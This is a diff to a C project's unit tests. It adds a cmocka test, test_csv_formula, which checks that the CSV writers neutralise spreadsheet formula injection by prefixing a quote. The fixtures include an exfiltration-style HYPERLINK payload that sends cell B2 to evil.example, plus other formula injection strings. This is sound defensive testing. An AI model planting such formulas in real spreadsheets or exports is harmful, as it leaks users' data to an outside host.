@@ -98,6 +98,49 @@ static void test_csv_round_trip(void **state)
   fclose(f);
 }
 
+/* A text a spreadsheet would run as a formula gets a leading quote in
+ * every CSV writer (rpd_out and rpd_csv_field); numbers never do; with
+ * rpd_csv_raw the text is written as it is. */
+static void test_csv_formula(void **state)
+{
+  static const char *const cases[][2] = {
+    {"=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"click\")",
+     "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&B2,\"\"click\"\")\""},
+    {"+1+cmd", "'+1+cmd"}, {"-2+3", "'-2+3"}, {"@SUM(A1)", "'@SUM(A1)"},
+    {"\tx", "'\tx"}, {"\rx", "\"'\rx\""}, {"-12", "-12"}, {"+3.5e-7", "+3.5e-7"},
+    {"-.5", "-.5"}, {"-", "'-"}, {"-e5", "'-e5"}, {"a=b", "a=b"}, {"", ""},
+  };
+  const char *names[] = {"name", "n"};
+  (void)state;
+  for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
+    rpd_buf b = {0};
+    FILE *f = tmpfile();
+    char *text, want[256];
+    rpd_csv_field(&b, cases[i][0], 0);
+    assert_string_equal(b.s ? b.s : "", cases[i][1]);
+    rpd_buf_free(&b);
+    rpd_out *o = rpd_out_new(f, RPD_FMT_CSV, 2, names);
+    rpd_out_str(o, cases[i][0]);
+    rpd_out_double(o, -1.5, 1);
+    rpd_out_endrow(o);
+    assert_int_equal(rpd_out_end(o), RPD_OK);
+    text = fx_stream_text(f);
+    snprintf(want, sizeof want, "name,n\r\n%s,-1.5\r\n", cases[i][1]);
+    assert_string_equal(text, want);
+    free(text);
+    fclose(f);
+  }
+  rpd_buf b = {0};
+  rpd_csv_field(&b, "=1+1", 1);
+  assert_string_equal(b.s, "\"'=1+1\"");
+  rpd_buf_reset(&b);
+  rpd_csv_raw = 1;
+  rpd_csv_field(&b, "=1+1", 0);
+  rpd_csv_raw = 0;
+  assert_string_equal(b.s, "=1+1");
+  rpd_buf_free(&b);
+}
+
 static void test_csv_exact(void **state)
 {
   FILE *f = tmpfile();
@@ -410,6 +453,7 @@ int main(void)
     cmocka_unit_test(test_json_writer),
     cmocka_unit_test(test_table),
     cmocka_unit_test(test_out_stmt),
+    cmocka_unit_test(test_csv_formula),
     cmocka_unit_test(test_write_error),
   };
   return cmocka_run_group_tests(tests, NULL, NULL);
